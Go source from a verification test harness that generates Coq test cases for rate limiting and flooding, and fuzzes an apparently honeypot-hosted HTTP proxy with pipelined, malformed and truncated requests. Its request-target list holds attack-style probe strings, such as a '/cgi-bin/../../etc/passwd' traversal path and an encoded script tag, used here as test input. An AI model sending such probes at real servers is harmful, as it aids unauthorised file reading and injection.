			rateCases = append(rateCases, hx.Case{ID: id, Kind: "rate", Input: in, Obs: got,
				Coq: fmt.Sprintf("CR (mkR %s %s %s)", hx.CoqN(uint64(id)), hx.CoqList(ts, "Z"), hx.CoqList(gs, "bool"))})
		case "conc":
			id := len(concCases)
			obs, crash := concRes[inIdx].Obs, concRes[inIdx].Crash
			distX[in.Svc]++
			distX[fmt.Sprintf("goroutines=%d", in.N)]++
			for _, o := range obs {
				switch t := o.Conc + o.After; {
				case t == 0:
					distX["source:no-response"]++
				case t < 4:
					distX["source:responses<burst"]++
				case t == 4:
					distX["source:responses=burst"]++
				default:
					distX["source:responses>burst"]++
				}
			}
			concCases = append(concCases, hx.Case{ID: id, Kind: "conc-" + in.Svc, Input: in, Obs: obs, Crash: crash, Coq: coqConcCase(id, in, obs, concRes[inIdx].ElapsedNs)})
		case "flood":
			id := len(floodCases)
			res := concRes[inIdx]
			distF[in.Svc]++
			if len(res.Flood.Rows) > 0 {
				distF[fmt.Sprintf("flooder:datagrams>=%d", res.Flood.Rows[0][0]/1000*1000)]++
				distF[fmt.Sprintf("flooder:responses=%d", res.Flood.Rows[0][1])]++
			}
			floodCases = append(floodCases, hx.Case{ID: id, Kind: "flood-" + in.Svc, Input: in, Obs: res.Flood, Crash: res.Crash, Coq: coqFloodCase(id, in, *res.Flood)})
		case "lim":
			id := len(limCases)
			ob := runLim(in)
			keys := 0
			for _, sg := range in.Segs {
				if sg.First+sg.Keys-1 > keys {
					keys = sg.First + sg.Keys - 1
				}
			}
			switch {
			case keys == 0:
				distL["flooder-alone"]++
			case keys <= 100:
				distL["others<=100"]++
			default:
				distL["others>100"]++
			}
			distL[fmt.Sprintf("flooder:grants=%d", ob.Flood)]++
			limCases = append(limCases, hx.Case{ID: id, Kind: "lim", Input: in, Obs: ob, Coq: coqLimCase(id, in, ob)})
		default:
			hx.Fatal("unknown part %q", in.Part)
		}
	}
	header := "From Coq Require Import Uint63.\nFrom HT Require Import Common.Bytes C10.Model C10.Check."
	svcHeader := header + "\n" + strings.Join(srcDefs, "\n")
	if len(svcCases) > 0 || o.Only == "" {
		hx.Write(o, "C10", "svc", svcHeader, "case", svcCases, distS, extra, 80)
	}
	if len(rateCases) > 0 || o.Only == "" {
		hx.Write(o, "C10", "rate", header, "case", rateCases, distR, nil, 150)
	}
	if len(concCases) > 0 || o.Only == "" {
		hx.Write(o, "C10", "conc", header, "case", concCases, distX, nil, 100)
	}
	if len(limCases) > 0 || o.Only == "" {
		hx.Write(o, "C10", "lim", header, "case", limCases, distL, nil, 3)
	}
	if len(floodCases) > 0 || o.Only == "" {
		hx.Write(o, "C10", "flood", header, "case", floodCases, distF, nil, 100)
	}
}
