package main

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"verif/harness/hx"
)

// limiterConsts evaluates the two fields of the composite literal returned by
// services.NewLimiter: interval: rate.Every(<duration expr>), burst: <int expr>.
func limiterConsts(path string) (intervalNs int64, burst int, err error) {
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, path, nil, 0)
	if err != nil {
		return 0, 0, err
	}
	if pkgs, e := parser.ParseDir(fset, filepath.Dir(path), func(fi os.FileInfo) bool { return !strings.HasSuffix(fi.Name(), "_test.go") }, 0); e == nil {
		for _, p := range pkgs {
			for _, pf := range p.Files {
				for _, d := range pf.Decls {
					gd, ok := d.(*ast.GenDecl)
					if !ok || (gd.Tok != token.CONST && gd.Tok != token.VAR) {
						continue
					}
					for _, sp := range gd.Specs {
						vs, ok := sp.(*ast.ValueSpec)
						if !ok || len(vs.Values) != len(vs.Names) {
							continue
						}
						for i, n := range vs.Names {
							pkgConsts[n.Name] = vs.Values[i]
						}
					}
				}
			}
		}
	}
	found := 0
	for _, d := range f.Decls {
		fd, ok := d.(*ast.FuncDecl)
		if !ok || fd.Name.Name != "NewLimiter" || fd.Recv != nil || fd.Body == nil {
			continue
		}
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			kv, ok := n.(*ast.KeyValueExpr)
			if !ok {
				return true
			}
			id, ok := kv.Key.(*ast.Ident)
			if !ok {
				return true
			}
			switch id.Name {
			case "interval":
				val := kv.Value
				if vid, isID := val.(*ast.Ident); isID {
					if init, has := pkgConsts[vid.Name]; has {
						val = init
					}
				}
				call, ok := val.(*ast.CallExpr)
				if !ok || len(call.Args) != 1 || selName(call.Fun) != "rate.Every" {
					err = fmt.Errorf("interval is not rate.Every(<duration>)")
					return false
				}
				v, e := evalConst(call.Args[0])
				if e != nil {
					err = e
					return false
				}
				intervalNs = v
				found |= 1
			case "burst":
				v, e := evalConst(kv.Value)
				if e != nil {
					err = e
					return false
				}
				burst = int(v)
				found |= 2
			}
			return true
		})
	}
	if err == nil && found != 3 {
		err = fmt.Errorf("NewLimiter: interval/burst literal not found")
	}
	return
}

func selName(e ast.Expr) string {
	if s, ok := e.(*ast.SelectorExpr); ok {
		if x, ok := s.X.(*ast.Ident); ok {
			return x.Name + "." + s.Sel.Name
		}
	}
	return ""
}

var durations = map[string]int64{"time.Nanosecond": 1, "time.Microsecond": 1e3, "time.Millisecond": 1e6,
	"time.Second": 1e9, "time.Minute": 60e9, "time.Hour": 3600e9}

// package-level constants/variables of the directory limiter.go lives in (name -> initialiser);
// filled by limiterConsts so that `burst: limiterBurst` with `const limiterBurst = 4` evaluates too
var pkgConsts = map[string]ast.Expr{}
var evalDepth int

func evalConst(e ast.Expr) (int64, error) {
	switch x := e.(type) {
	case *ast.Ident:
		if init, ok := pkgConsts[x.Name]; ok && evalDepth < 8 {
			evalDepth++
			defer func() { evalDepth-- }()
			return evalConst(init)
		}
	case *ast.BasicLit:
		if x.Kind == token.INT {
			return strconv.ParseInt(x.Value, 0, 64)
		}
	case *ast.ParenExpr:
		return evalConst(x.X)
	case *ast.SelectorExpr:
		if v, ok := durations[selName(x)]; ok {
			return v, nil
		}
	case *ast.CallExpr:
		if selName(x.Fun) == "time.Duration" && len(x.Args) == 1 {
			return evalConst(x.Args[0])
		}
	case *ast.BinaryExpr:
		a, err := evalConst(x.X)
		if err != nil {
			return 0, err
		}
		b, err := evalConst(x.Y)
		if err != nil {
			return 0, err
		}
		switch x.Op {
		case token.MUL:
			return a * b, nil
		case token.ADD:
			return a + b, nil
		case token.SUB:
			return a - b, nil
		case token.QUO:
			if b != 0 {
				return a / b, nil
			}
		}
	}
	return 0, fmt.Errorf("cannot evaluate constant expression %T", e)
}

// genTimes: clock readings for one rate.Limiter (ns): bursts inside the interval,
// gaps around one interval, long idle periods, refill edges, a clock stepping back.
func genTimes(r *hx.Rand, interval int64, burst int) []int64 {
	var ts []int64
	t := int64(r.Intn(1000))
	n := r.PickInt([]int{3, 6, 10, 20, 40, 80})
	mode := r.Intn(6)
	for i := 0; i < n; i++ {
		ts = append(ts, t)
		var dt int64
		switch mode {
		case 0: // everything inside one interval
			dt = int64(r.Intn(int(interval/int64(n+1)/1000))) * 1000
		case 1: // gaps of up to three intervals
			dt = int64(r.U64() % uint64(3*interval))
		case 2: // refill edges: exactly / just below / just above k intervals
			k := int64(r.PickInt([]int{1, 1, 1, 2, 4, 5}))
			dt = k*interval + int64(r.PickInt([]int{-1000000, -1000, -3, 0, 0, 3, 1000, 1000000}))
			if r.Chance(1, 2) {
				dt = int64(r.Intn(5))
			}
		case 3: // mostly rapid, sometimes a long idle period
			dt = int64(r.Intn(1000000))
			if r.Chance(1, 6) {
				dt = int64(r.PickInt([]int{1, 2, 3, 4, 5, 9})) * interval / int64(r.PickInt([]int{1, 2, 3}))
			}
		case 4: // a clock that sometimes steps back
			dt = int64(r.U64()%uint64(interval)) - interval/4
		default: // fractions of the interval
			dt = interval / int64(r.PickInt([]int{2, 3, 4, 7, 10, 100}))
		}
		t += dt
		if t < 0 {
			t = 0
		}
	}
	return ts
}
