// C15 part "http": the real http-proxy service behind the real server, forward director
// from TOML, harness HTTP backend on loopback.
package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"verif/harness/hx"
	"verif/harness/lab"
)

type Item struct {
	Seg  int `json:"seg,omitempty"`  // length of a client write (bytes of the stream, in order)
	Wait int `json:"wait,omitempty"` // wait until this many responses have arrived
}

type HReply struct {
	Raw     hx.B   `json:"raw"`
	Cuts    []int  `json:"cuts"`
	DelayMs int    `json:"delay_ms,omitempty"` // the backend is late with this reply
	Close   string `json:"close,omitempty"`    // after this reply the backend closes ("fin") or resets ("rst") its connection
}

type HttpInput struct {
	Class   string   `json:"class"`  // lockstep | pipelined | malformed | oversend
	NoPort  bool     `json:"noport"` // director whose host carries no port (port taken from the connection)
	Msgs    []hx.B   `json:"msgs"`   // the client's messages; the stream is their concatenation
	Items   []Item   `json:"items"`
	Replies []HReply `json:"replies"`  // backend reply to the k-th request it receives on this connection
	Group   int      `json:"group"`    // cases of one group run concurrently
	RealTCP bool     `json:"real_tcp"` // client leg over a real loopback TCP connection (segmentation then up to the kernel)
	// HalfClose (real TCP only): the client ends its sending direction right after its last
	// write (HTTP/1.0 style "request, then shutdown") and only then reads the replies
	HalfClose bool `json:"half_close,omitempty"`
	// Shared: the proxy's port is shared with a detector service listed before it
	Shared bool   `json:"shared_port,omitempty"`
	Marker string `json:"marker"` // value of the X-C15 header in this case's requests (how the backend attributes connections)
}

type SResp struct {
	Status  int         `json:"status"`
	Headers [][2]string `json:"headers"`
	BodyLen int         `json:"body_len"`
	BodyH   uint64      `json:"body_fnv"`
}

type SEvent struct {
	Method  string `json:"method"`
	URL     string `json:"url"`
	CL      int64  `json:"content_length"`
	PLen    int    `json:"payload_len"`
	PH      uint64 `json:"payload_fnv"`
	SrcOK   bool   `json:"attributed"`
	Service string `json:"service"`
}

type HttpObs struct {
	BReqs    []SReq   `json:"backend_requests"`
	BConns   int      `json:"backend_conns"`
	BGarbage bool     `json:"backend_garbage"`
	BPeersOK bool     `json:"backend_peers_loopback"`
	CResps   []SResp  `json:"client_responses"`
	CGarbage bool     `json:"client_garbage"`
	CErr     string   `json:"client_err,omitempty"`
	Events   []SEvent `json:"events"`
}

// ---------- generator ----------

var methods = []string{"GET", "GET", "POST", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "PROPFIND", "HEAD"}
var targets = []string{"/", "/index.html", "/a/b/c", "/index.php?id=1&x=%20y", "/a%2Fb", "/~u/x;p=1", "//double//slash",
	"/cgi-bin/../../etc/passwd", "/?", "/q?a=b?c=d", "/%7Euser/", "/wp-login.php", "/a+b?c+d", "/x?y=%3Cscript%3E"}
var hnames = []string{"Accept", "accept-encoding", "COOKIE", "Cookie", "X-Forwarded-For", "x-multi", "X-Multi", "Referer",
	"Authorization", "If-None-Match", "X-a.b_c", "Cache-Control", "Pragma", "Accept-Language", "X-Requested-With"}
var hvals = []string{"*/*", "gzip, deflate", "a=1; b=2", "sid=deadbeef", "10.0.0.1, 10.0.0.2", "v1", "v2", "http://ref.example/x?y",
	"Basic dXNlcjpwYXNz", "\"etag\"", "", "no-cache", "en-US,en;q=0.5", "x y  z", "tab\there", "ümlaut", ":colon:first", "a,b", "="}
var uas = []string{"curl/7.58.0", "Mozilla/5.0 (X11; Linux x86_64)", "masscan/1.0", "Go-http-client/1.1"}
var bodySizes = []int{0, 0, 1, 10, 100, 1000, 4095, 4096, 4097, 10000, 65536}

func bodyBytes(r *hx.Rand, n int) []byte {
	if r.Chance(1, 2) {
		return r.Bytes(n)
	}
	return r.BytesFrom(n, []byte("abcdefghijklmnopqrstuvwxyz0123456789&=%\r\n "))
}

func chunkEncode(r *hx.Rand, body []byte) []byte {
	var b bytes.Buffer
	rest := body
	for len(rest) > 0 {
		k := r.PickInt([]int{1, 7, 16, 255, 256, 1000, 4096, 40000})
		if k > len(rest) || r.Chance(1, 4) {
			k = len(rest)
		}
		if r.Chance(1, 5) {
			fmt.Fprintf(&b, "%X\r\n", k)
		} else {
			fmt.Fprintf(&b, "%x\r\n", k)
		}
		b.Write(rest[:k])
		b.WriteString("\r\n")
		rest = rest[k:]
	}
	b.WriteString("0\r\n\r\n")
	return b.Bytes()
}

func hline(r *hx.Rand, name, val string) string {
	switch r.Intn(6) {
	case 0:
		return name + ":" + val + "\r\n"
	case 1:
		return name + ":  " + val + " \r\n"
	default:
		return name + ": " + val + "\r\n"
	}
}

type genReq struct {
	raw    []byte
	method string
}

func genRequest(r *hx.Rand, id string, small bool, allowHead bool) genReq {
	m := methods[r.Intn(len(methods))]
	if m == "HEAD" && !allowHead {
		m = "GET"
	}
	t := targets[r.Intn(len(targets))]
	if m == "OPTIONS" && r.Chance(1, 3) {
		t = "*"
	}
	var lines []string
	nh := r.PickInt([]int{0, 1, 2, 3, 5, 10})
	for i := 0; i < nh; i++ {
		lines = append(lines, hline(r, hnames[r.Intn(len(hnames))], hvals[r.Intn(len(hvals))]))
	}
	if r.Chance(3, 4) {
		lines = append(lines, hline(r, "User-Agent", uas[r.Intn(len(uas))]))
	}
	if r.Chance(9, 10) {
		lines = append(lines, hline(r, r.PickStr([]string{"Host", "Host", "host"}), r.PickStr([]string{"example.com", "10.1.2.3:8080", "honeypot.local"})))
	}
	lines = append(lines, markerHeader+": "+id+"\r\n")
	// shuffle
	for i := len(lines) - 1; i > 0; i-- {
		j := r.Intn(i + 1)
		lines[i], lines[j] = lines[j], lines[i]
	}
	n := bodySizes[r.Intn(len(bodySizes))]
	if small {
		n = r.PickInt([]int{0, 0, 1, 10, 100, 500})
	}
	if (m == "GET" || m == "HEAD" || m == "OPTIONS" || m == "DELETE") && r.Chance(4, 5) {
		n = 0
	}
	body := bodyBytes(r, n)
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", m, t)
	chunked := n > 0 && r.Chance(1, 3) || n == 0 && (m == "POST" || m == "PUT") && r.Chance(1, 6)
	pos := r.Intn(len(lines) + 1)
	for i, l := range lines {
		if i == pos {
			writeFraming(r, &b, chunked, n, m)
		}
		b.WriteString(l)
	}
	if pos == len(lines) {
		writeFraming(r, &b, chunked, n, m)
	}
	b.WriteString("\r\n")
	if chunked {
		b.Write(chunkEncode(r, body))
	} else {
		b.Write(body)
	}
	return genReq{raw: b.Bytes(), method: m}
}

func writeFraming(r *hx.Rand, b *bytes.Buffer, chunked bool, n int, m string) {
	if chunked {
		b.WriteString(r.PickStr([]string{"Transfer-Encoding: chunked\r\n", "transfer-encoding: chunked\r\n"}))
	} else if n > 0 || ((m == "POST" || m == "PUT" || m == "PATCH") && r.Chance(1, 2)) {
		fmt.Fprintf(b, "%s: %d\r\n", r.PickStr([]string{"Content-Length", "content-length", "Content-length"}), n)
	}
}

var statuses = []string{"200 OK", "200 OK", "200 Fine", "201 Created", "204 No Content", "301 Moved Permanently", "304 Not Modified", "404 Not Found", "500 Internal Server Error", "418 I'm a teapot"}
var rhnames = []string{"Pragma", "Server", "Content-Type", "Set-Cookie", "set-cookie", "X-Powered-By", "Location", "ETag", "Vary", "X-multi"}
var rhvals = []string{"no-cache", "Apache/2.4.18 (Ubuntu)", "text/html; charset=utf-8", "a=b; Path=/", "c=d; HttpOnly", "PHP/5.6", "/login", "W/\"1\"", "Accept-Encoding", ""}

func genReply(r *hx.Rand, method string, small bool) HReply {
	st := statuses[r.Intn(len(statuses))]
	n := bodySizes[r.Intn(len(bodySizes))]
	if small {
		n = r.PickInt([]int{0, 1, 10, 100, 500})
	}
	nobody := strings.HasPrefix(st, "204") || strings.HasPrefix(st, "304")
	var b bytes.Buffer
	fmt.Fprintf(&b, "HTTP/1.1 %s\r\n", st)
	nh := r.PickInt([]int{0, 1, 2, 4, 6})
	for i := 0; i < nh; i++ {
		b.WriteString(hline(r, rhnames[r.Intn(len(rhnames))], rhvals[r.Intn(len(rhvals))]))
	}
	body := bodyBytes(r, n)
	chunked := !nobody && r.Chance(1, 3)
	if nobody {
		if r.Chance(1, 2) && strings.HasPrefix(st, "304") {
			// no framing header at all
		}
	} else if chunked {
		b.WriteString("Transfer-Encoding: chunked\r\n")
	} else {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", n)
	}
	b.WriteString("\r\n")
	if !nobody && method != "HEAD" {
		if chunked {
			b.Write(chunkEncode(r, body))
		} else {
			b.Write(body)
		}
	}
	raw := b.Bytes()
	return HReply{Raw: raw, Cuts: randCuts(r, len(raw))}
}

// randCuts: a segmentation of n bytes: whole, one cut, or several.
func randCuts(r *hx.Rand, n int) []int {
	if n == 0 {
		return nil
	}
	switch r.Intn(4) {
	case 0:
		return []int{n}
	case 1:
		c := r.Range(1, n)
		if c == n {
			return []int{n}
		}
		return []int{c, n - c}
	default:
		var out []int
		rest := n
		for rest > 0 && len(out) < 6 {
			k := r.Range(1, rest)
			if r.Chance(1, 3) {
				k = r.Range(1, minInt(rest, 40))
			}
			out = append(out, k)
			rest -= k
		}
		if rest > 0 {
			out = append(out, rest)
		}
		return out
	}
}

func segItems(cuts []int) []Item {
	var out []Item
	for _, c := range cuts {
		out = append(out, Item{Seg: c})
	}
	return out
}

func genLockstep(r *hx.Rand, id string, nreq int, small bool) HttpInput {
	in := HttpInput{Class: "lockstep"}
	for k := 0; k < nreq; k++ {
		g := genRequest(r, id, small, true)
		in.Msgs = append(in.Msgs, g.raw)
		in.Items = append(in.Items, segItems(randCuts(r, len(g.raw)))...)
		in.Items = append(in.Items, Item{Wait: k + 1})
		in.Replies = append(in.Replies, genReply(r, g.method, small))
	}
	return in
}

// single-cut lock-step: one request, cut at position c (0 < c < len)
func genSingleCut(r *hx.Rand, id string, raw []byte, method string, c int) HttpInput {
	in := HttpInput{Class: "lockstep", Msgs: []hx.B{raw}}
	if c <= 0 || c >= len(raw) {
		in.Items = []Item{{Seg: len(raw)}}
	} else {
		in.Items = []Item{{Seg: c}, {Seg: len(raw) - c}}
	}
	in.Items = append(in.Items, Item{Wait: 1})
	in.Replies = []HReply{genReply(r, method, true)}
	return in
}

// pipelined: a burst of k small requests written without waiting, in one write, one write
// per request, or cut anywhere (before the repair 24ce50b the segmentation decided what
// the proxy lost).
func genPipelined(r *hx.Rand, id string, mode int) HttpInput {
	in := HttpInput{Class: "pipelined"}
	k := r.Range(2, 3)
	total := 0
	var lens []int
	for i := 0; i < k; i++ {
		g := genRequest(r, id, true, false)
		for len(g.raw) > 1100 {
			g = genRequest(r, id, true, false)
		}
		in.Msgs = append(in.Msgs, g.raw)
		lens = append(lens, len(g.raw))
		total += len(g.raw)
		in.Replies = append(in.Replies, genReply(r, g.method, true))
	}
	switch mode {
	case 0: // one write
		in.Items = []Item{{Seg: total}}
	case 1: // one write per message
		in.Items = segItems(lens)
	default: // one cut anywhere
		c := r.Range(1, total-1)
		in.Items = []Item{{Seg: c}, {Seg: total - c}}
	}
	in.Items = append(in.Items, Item{Wait: k})
	if r.Chance(1, 3) { // then one more request in lock-step
		g := genRequest(r, id, true, false)
		in.Msgs = append(in.Msgs, g.raw)
		in.Items = append(in.Items, Item{Seg: len(g.raw)}, Item{Wait: k + 1})
		in.Replies = append(in.Replies, genReply(r, g.method, true))
	}
	return in
}

// oversend: the backend writes an unsolicited second reply in the same write as the
// first; it stays in the proxy's backend-side reader and is handed out as the reply to
// the next request (if there is one).
func genOversend(r *hx.Rand, id string) HttpInput {
	in := genLockstep(r, id, r.Range(1, 3), true)
	in.Class = "oversend"
	k := r.Intn(len(in.Replies))
	extra := genReply(r, "GET", true)
	raw := append(append([]byte(nil), in.Replies[k].Raw...), extra.Raw...)
	for len(raw) > 3000 {
		return genOversend(r, id)
	}
	in.Replies[k] = HReply{Raw: raw, Cuts: []int{len(raw)}}
	return in
}

// halfclose: the client writes its request(s) - one, or several back to back - ends its
// sending direction at once and only then reads; the backend is late and/or its replies
// are large.
func genHalfClose(r *hx.Rand, id string, k int) HttpInput {
	in := HttpInput{Class: "halfclose", RealTCP: true, HalfClose: true}
	nreq := 1 + k%2
	total := 0
	for i := 0; i < nreq; i++ {
		g := genRequest(r, id, true, false)
		in.Msgs = append(in.Msgs, g.raw)
		total += len(g.raw)
		rep := genReply(r, g.method, k%3 != 0)
		rep.DelayMs = []int{0, 20, 50}[(k/2)%3]
		in.Replies = append(in.Replies, rep)
	}
	in.Items = segItems(randCuts(r, total))
	return in
}

// nextfails: n complete requests and then an exchange that cannot complete, the client's
// stream written in one write, one write per request, or cut anywhere (pipelined) - or in
// lock-step.  The n replies the backend has given must reach the client all the same.
//
//	how = "fin" / "rst":  the backend closes / resets its connection after reply n (with and
//	                       without "Connection: close" in that reply); request n+1 is fine
//	how = "noreply" / "garbage" / "cutreply": request n+1 is fine and reaches the backend in
//	                       full; the backend then closes without a reply / answers bytes that
//	                       are not an HTTP reply / closes inside the reply's header block.
//	                       The request was relayed: it must have its event all the same
//	how = "bad":           request n+1 is malformed (incl. a stray CRLF after a body)
//	how = "cut":           request n+1 is incomplete: the client stops after `cutAt` bytes of it
func genNextFails(r *hx.Rand, id string, how string, mode int, cutAt int) HttpInput {
	in := HttpInput{Class: "nextfails"}
	n := r.Range(1, 2)
	var lens []int
	total := 0
	for i := 0; i < n; i++ {
		g := genRequest(r, id, true, false)
		for len(g.raw) > 1200 {
			g = genRequest(r, id, true, false)
		}
		if i == n-1 && how == "bad" && mode%2 == 1 {
			// a POST whose body is followed by a stray CRLF (what old browsers sent)
			g = genReq{raw: []byte("POST /form HTTP/1.1\r\nHost: example.com\r\nUser-Agent: old-browser\r\n" + markerHeader + ": " + id + "\r\nContent-Length: 5\r\n\r\nhello"), method: "POST"}
		}
		in.Msgs = append(in.Msgs, g.raw)
		lens = append(lens, len(g.raw))
		total += len(g.raw)
		rep := genReply(r, g.method, true)
		if i == n-1 && (how == "fin" || how == "rst") {
			rep.Close = how
			if r.Bool() {
				rep.Raw = hx.B(strings.Replace(string(rep.Raw), "\r\n", "\r\nConnection: close\r\n", 1))
				rep.Cuts = []int{len(rep.Raw)}
			}
		}
		in.Replies = append(in.Replies, rep)
	}
	var next []byte
	switch how {
	case "fin", "rst":
		next = genRequest(r, id, true, false).raw
	case "noreply", "garbage", "cutreply":
		g := genRequest(r, id, true, false)
		next = g.raw
		rep := HReply{Close: "fin"}
		switch how {
		case "garbage":
			rep.Raw = hx.B("\x00\x01\x02 this is not http\r\nat all\r\n\r\n")
			rep.Cuts = []int{len(rep.Raw)}
		case "cutreply":
			full := genReply(r, g.method, true).Raw
			hdr := strings.Index(string(full), "\r\n\r\n")
			rep.Raw = full[:r.Range(1, hdr+2)]
			rep.Cuts = []int{len(rep.Raw)}
		}
		in.Replies = append(in.Replies, rep)
	case "bad":
		if mode%2 == 1 {
			next = []byte("\r\n")
		} else {
			next = [][]byte{
				[]byte("GET /nothing\r\n" + markerHeader + ": " + id + "\r\n\r\n"),
				[]byte("GET / HTTP/1.1\r\nno colon here\r\n\r\n"),
				[]byte("POST / HTTP/1.1\r\nContent-Length: 12abc\r\n\r\n"),
				[]byte("GET / HTTP/9.9.9\r\n\r\n"),
				[]byte("\x16\x03\x01\x00\xa5\x01 binary\r\n\r\n"),
			}[r.Intn(5)]
		}
	default:
		g := genRequest(r, id, true, false).raw
		if cutAt < 1 {
			cutAt = 1
		}
		if cutAt >= len(g) {
			cutAt = len(g) - 1
		}
		next = g[:cutAt]
	}
	in.Msgs = append(in.Msgs, next)
	lens = append(lens, len(next))
	total += len(next)
	switch mode % 4 {
	case 0: // one write
		in.Items = []Item{{Seg: total}}
	case 1: // one write per message
		in.Items = segItems(lens)
	case 2: // one cut anywhere
		c := r.Range(1, total-1)
		in.Items = []Item{{Seg: c}, {Seg: total - c}}
	default: // lock-step: wait for every reply before the next request
		for i, l := range lens {
			in.Items = append(in.Items, Item{Seg: l})
			if i < n {
				in.Items = append(in.Items, Item{Wait: i + 1})
			}
		}
	}
	// the client wants the replies to its n complete requests (it cannot have more)
	in.Items = append(in.Items, Item{Wait: n})
	return in
}

func genMalformed(r *hx.Rand, id string) HttpInput {
	in := HttpInput{Class: "malformed"}
	good := genRequest(r, id, true, false)
	var bad []byte
	switch r.Intn(6) {
	case 0:
		bad = []byte("GET /nothing\r\nX-C15: " + id + "\r\n\r\n") // two fields in the request line
	case 1:
		bad = []byte("GET / HTTP/1.1\r\nno colon here\r\nX-C15: " + id + "\r\n\r\n")
	case 2:
		bad = []byte("POST / HTTP/1.1\r\nContent-Length: 12abc\r\nX-C15: " + id + "\r\n\r\n")
	case 3:
		bad = good.raw[:r.Range(1, len(good.raw)-1)] // truncated, then the client closes
	case 4:
		bad = []byte("\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03 binary\r\n\r\n")
	default:
		bad = []byte("GET / HTTP/9.9.9\r\nX-C15: " + id + "\r\n\r\n")
	}
	if r.Chance(1, 2) { // a good request first
		in.Msgs = append(in.Msgs, good.raw)
		in.Items = append(in.Items, Item{Seg: len(good.raw)}, Item{Wait: 1})
		in.Replies = append(in.Replies, genReply(r, good.method, true))
	}
	in.Msgs = append(in.Msgs, bad)
	in.Items = append(in.Items, segItems(randCuts(r, len(bad)))...)
	in.Items = append(in.Items, Item{Wait: len(in.Msgs)})
	return in
}

// ---------- runner ----------

type httpEnv struct {
	l       *lab.Lab
	be      *httpBackend
	port    int // proxy port with the director that names host:port
	portNP  int // proxy port whose director has no port (= port of the backend on 127.0.0.2)
	portNP2 int // a second such port (same service, same director instance)
	portBE  int // the backend port that the directors with a port name
	decoy   *decoy
	seq     int32
	idleDur time.Duration
}

type actReader struct {
	r    io.Reader
	last *int64
}

func (a *actReader) Read(p []byte) (int, error) {
	n, err := a.r.Read(p)
	if n > 0 {
		atomic.StoreInt64(a.last, time.Now().UnixNano())
	}
	return n, err
}

func reqMethods(in HttpInput) []string {
	var ms []string
	for _, m := range in.Msgs {
		s := string(m)
		if i := strings.IndexByte(s, ' '); i > 0 {
			ms = append(ms, s[:i])
		} else {
			ms = append(ms, "GET")
		}
	}
	return ms
}

func (e *httpEnv) run(in HttpInput, id string) (HttpObs, string) {
	var ob HttpObs
	if in.Marker != "" {
		id = in.Marker
	}
	var reps []httpReply
	for _, rp := range in.Replies {
		reps = append(reps, httpReply{Raw: rp.Raw, Cuts: rp.Cuts, DelayMs: rp.DelayMs, Close: rp.Close})
	}
	e.be.setScript(id, reps)
	n := atomic.AddInt32(&e.seq, 1)
	lport := e.port
	if in.NoPort {
		lport = e.portNP
		if n%2 == 1 {
			lport = e.portNP2 // the director instance is shared by both ports: each connection must reach ITS port
		}
	}
	if in.Shared && !in.NoPort {
		lport = 8081
	}
	local := &net.TCPAddr{IP: net.ParseIP("127.0.0.1"), Port: lport}
	remote := &net.TCPAddr{IP: net.ParseIP("198.51.100.7"), Port: 20000 + int(n)}
	var cc net.Conn
	var closed <-chan struct{}
	if in.RealTCP {
		ts, tc, err := tcpPair()
		if err != nil {
			hx.Fatal("tcp pair: %v", err)
		}
		w := &addrConn{Conn: ts, L: local, R: remote, closed: make(chan struct{})}
		cc, closed = tc, w.closed
		if !inject(w) {
			return ob, "server does not accept"
		}
	} else {
		sc, pc := lab.Pipe(local, remote)
		cc, closed = pc, sc.Closed()
		if !inject(sc) {
			return ob, "server does not accept"
		}
	}
	var stream []byte
	for _, m := range in.Msgs {
		stream = append(stream, m...)
	}
	var got int32
	last := time.Now().UnixNano()
	var resps []SResp
	var cgarbage bool
	var cerr string
	rdone := make(chan struct{})
	ms := reqMethods(in)
	go func() {
		defer close(rdone)
		cr := &countReader{r: &actReader{r: cc, last: &last}}
		br := bufio.NewReaderSize(cr, 1<<16)
		okUpTo := 0
		defer func() {
			// anything received beyond the last complete response is garbage to the client
			if cr.n > okUpTo {
				cgarbage = true
			}
		}()
		for k := 0; ; k++ {
			m := "GET"
			if k < len(ms) {
				m = ms[k]
			}
			resp, err := http.ReadResponse(br, &http.Request{Method: m})
			if err != nil {
				cerr = "head: " + err.Error()
				return
			}
			body, err := io.ReadAll(resp.Body)
			if err != nil {
				cerr = "body: " + err.Error()
				return
			}
			okUpTo = cr.n - br.Buffered()
			resps = append(resps, SResp{Status: resp.StatusCode, Headers: canonRespHeaders(resp.Header), BodyLen: len(body), BodyH: fnv64(body)})
			atomic.AddInt32(&got, 1)
		}
	}()
	idle := func() bool { return time.Since(time.Unix(0, atomic.LoadInt64(&last))) > e.idleDur }
	waitFor := func(k int) bool {
		for int(atomic.LoadInt32(&got)) < k {
			if idle() {
				return false
			}
			select {
			case <-rdone:
				return int(atomic.LoadInt32(&got)) >= k
			case <-time.After(time.Millisecond):
			}
		}
		return true
	}
	pos := 0
loop:
	for _, it := range in.Items {
		if it.Seg > 0 {
			cc.SetWriteDeadline(time.Now().Add(5 * time.Second))
			atomic.StoreInt64(&last, time.Now().UnixNano())
			if _, err := cc.Write(stream[pos : pos+it.Seg]); err != nil {
				break loop
			}
			atomic.StoreInt64(&last, time.Now().UnixNano())
			pos += it.Seg
		} else if it.Wait > 0 {
			if !waitFor(it.Wait) {
				break loop
			}
		}
	}
	if in.HalfClose {
		if tc, ok := cc.(*net.TCPConn); ok {
			tc.CloseWrite()
			atomic.StoreInt64(&last, time.Now().UnixNano())
			waitFor(len(in.Msgs))
		}
	}
	cc.Close()
	select {
	case <-closed:
	case <-time.After(8 * time.Second):
		return ob, "proxy did not close the client connection"
	}
	select {
	case <-rdone:
	case <-time.After(3 * time.Second):
	}
	ob.CResps = resps
	ob.CGarbage = cgarbage
	ob.CErr = cerr
	// backend side
	time.Sleep(2 * time.Millisecond)
	conns := e.be.connsOf(id, 3*time.Second)
	ob.BConns = len(conns)
	ob.BPeersOK = true
	for _, c := range conns {
		ob.BReqs = append(ob.BReqs, c.reqs...)
		if c.garbage {
			ob.BGarbage = true
		}
		if ta, ok := c.peer.(*net.TCPAddr); !ok || !ta.IP.IsLoopback() {
